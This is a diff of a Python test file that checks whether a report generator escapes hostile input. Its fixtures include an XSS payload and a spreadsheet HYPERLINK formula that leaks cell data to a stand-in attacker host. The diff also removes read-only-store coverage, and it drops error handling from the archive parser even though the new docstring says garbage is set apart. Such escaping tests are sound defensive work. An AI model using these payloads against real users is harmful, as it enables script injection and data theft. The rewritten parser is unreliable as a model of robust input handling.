@@ -8,7 +8,8 @@ import re
 import subprocess
 import sys
 import time
-from collections.abc import Callable, Iterator, Sequence
+import zlib
+from collections.abc import Iterator, Sequence
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
@@ -33,10 +34,6 @@ def _read(path: Path) -> pd.DataFrame:
     return pd.read_csv(path, dtype="str", keep_default_na=False, na_filter=False)
 
 
-def _listed(verdicts: pd.DataFrame) -> pd.DataFrame:
-    return verdicts[(verdicts["period"] == "all") & verdicts["state"].isin(LISTED)]
-
-
 MARKUP = '"><img src=x onerror=alert(1)></script><script>alert(2)</script>'
 FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
 HOSTILE = {
@@ -53,19 +50,13 @@ INPUTS = (
 
 
 def _lines(archive: Path) -> Iterator[dict[str, Any]]:
-    """The measurements of the intact objects of an archive."""
+    """The measurements of an archive, forged lines and garbage apart."""
     for path in sorted(archive.rglob("*.jsonl.gz")):
-        try:
-            lines = gzip.decompress(path.read_bytes()).splitlines()
-        except EOFError:
-            continue
-        for line in lines:
-            try:
+        for line in zlib.decompressobj(31).decompress(path.read_bytes()).split(b"\n"):
+            if line.startswith(b'{"annotations"') and line.endswith(b"}"):
                 found = json.loads(line)
-            except ValueError:
-                continue
-            if isinstance(found, dict) and found.get("test_keys") and found["input"]:
-                yield found
+                if found["test_keys"] and found["input"]:
+                    yield found
 
 
 def _spoil(measurement: dict[str, Any], asn: int, path: str) -> bytes:
@@ -124,28 +115,12 @@ def hostile_words(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
     ]  # fmt: skip
 
 
-def _start(
-    words: Sequence[str], cwd: Path = ROOT, prefix: Sequence[str] = (), **environment: str
-) -> "subprocess.Popen[str]":
+def _start(words: Sequence[str], cwd: Path = ROOT, **environment: str) -> "subprocess.Popen[str]":
     return subprocess.Popen(
-        [*prefix, sys.executable, "-m", "analysis", "report", *words],
+        [sys.executable, "-m", "analysis", "report", *words],
         cwd=cwd, env=os.environ | {"PYTHONPATH": str(ROOT)} | environment, text=True,
         stdout=subprocess.PIPE, stderr=subprocess.PIPE,
     )  # fmt: skip
-
-
-def _finish(process: "subprocess.Popen[str]") -> None:
-    _, said = process.communicate(timeout=240)
-    assert process.returncode == 0, said
-
-
-def _wait_for(process: "subprocess.Popen[str]", is_there: Callable[[], object]) -> None:
-    """Wait until a running process has come so far."""
-    end = time.monotonic() + 120
-    while not is_there():
-        assert process.poll() is None, process.communicate()[1]
-        assert time.monotonic() < end
-        time.sleep(0.05)
 
 
 def _contents(folder: Path) -> dict[str, bytes]:
@@ -169,26 +144,11 @@ def _interfering_user(home: Path) -> dict[str, str]:
     }  # fmt: skip
 
 
-#: Runs what follows with a folder that is a read-only disk, for nobody but itself.
-_READ_ONLY = 'mount --bind -o ro "$0" "$0" && exec "$@"'
-
-
-def _read_only(folder: Path) -> list[str]:
-    """What lets a command find a folder read-only, also for root; nothing where none may mount."""
-    prefix = ["unshare", "--mount", "sh", "-c", _READ_ONLY, str(folder)]
-    try:
-        done = subprocess.run([*prefix, "touch", folder / "x"], check=False, capture_output=True)
-    except FileNotFoundError:
-        return []
-    return prefix if b"Read-only file system" in done.stderr else []
-
-
 @pytest.fixture(scope="module")
 def twins(tmp_path_factory: pytest.TempPathFactory, hostile_words: list[str]) -> tuple[Path, Path]:
     """Two reports on the hostile archive, each from an empty store, in unlike circumstances. The
-    second, in the place of an earlier one, was killed among its notebooks, and then made from a
-    store that nobody can write, where root may mount. Kills at other moments are those of
-    ``test_survival`` and ``test_publishing``."""
+    second, in the place of an earlier one, was killed among its notebooks, and then made. Kills at
+    other moments are those of ``test_survival`` and ``test_publishing``."""
     folder = tmp_path_factory.mktemp("twins")
     one, other = (
         [*hostile_words, f"STORE={folder / name / 'store'}", f"OUT={folder / name / 'report'}"]
@@ -204,14 +164,18 @@ def twins(tmp_path_factory: pytest.TempPathFactory, hostile_words: list[str]) ->
     (report / "run.json").write_text('{"files": ["index.html"], "tables": {}, "findings": {}}')
     before = _contents(report)
     killed = _start([*other, "JOBS=2"], home, **there)
-    _wait_for(killed, lambda: any((folder / "other").glob(".report.building-*/tables/*.csv")))
+    end = time.monotonic() + 120
+    while not any((folder / "other").glob(".report.building-*/tables/*.csv")):
+        assert killed.poll() is None, killed.communicate()[1]
+        assert time.monotonic() < end
+        time.sleep(0.05)
     killed.kill()
     killed.communicate()
     assert _contents(report) == before  # whole or not at all
-    prefix = _read_only(folder / "other" / "store")
-    second = _start([*other, "JOBS=2"], home, prefix, **there)
-    _finish(second)
-    _finish(first)
+    second = _start([*other, "JOBS=2"], home, **there)
+    for process in (first, second):
+        _, said = process.communicate(timeout=240)
+        assert process.returncode == 0, said
     return folder / "one" / "report", folder / "other" / "report"
 
 
@@ -252,7 +216,8 @@ def test_hostile_text_stays_text(twins: tuple[Path, Path]) -> None:
     browser or a spreadsheet."""
     report = twins[0]
     verdicts = _read(report / "tables" / "verdicts.csv")
-    assert set(_listed(verdicts)["probe_asn"]) >= {"AS64600", "AS64601"}
+    listed = verdicts[(verdicts["period"] == "all") & verdicts["state"].isin(LISTED)]
+    assert set(listed["probe_asn"]) >= {"AS64600", "AS64601"}
     pages = {page: page.read_text(encoding="utf-8") for page in sorted(report.rglob("*.html"))}
     assert any("&lt;img src=x onerror=alert(1)&gt;" in text for text in pages.values())
     events = pages[report / "2-confirmation.html"]
